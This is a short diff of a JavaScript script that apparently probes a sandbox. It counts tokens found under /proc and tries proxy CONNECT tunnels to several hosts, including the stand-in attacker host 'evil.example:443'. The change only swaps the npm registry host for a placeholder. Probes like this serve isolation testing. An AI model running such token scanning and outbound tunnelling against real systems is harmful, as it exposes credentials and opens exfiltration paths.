@@ -41,7 +41,7 @@ for (const pid of readdirSync("/proc").filter((d) => /^\\d+$/.test(d))) {
 }
 out.push("proc-seen:" + seen, "proc-tokens:" + tokens);
 const proxy = process.env.HTTPS_PROXY ? new URL(process.env.HTTPS_PROXY) : null;
-for (const target of ["evil.example:443", process.argv[2], "registry.npmjs.org:443"]) {
+for (const target of ["evil.example:443", process.argv[2], "registry.example:443"]) {
   if (!proxy) { out.push("no-proxy"); continue; }
   await new Promise((r) => {
     const req = http.request({ host: proxy.hostname, port: Number(proxy.port), method: "CONNECT", path: target, timeout: 3000 });
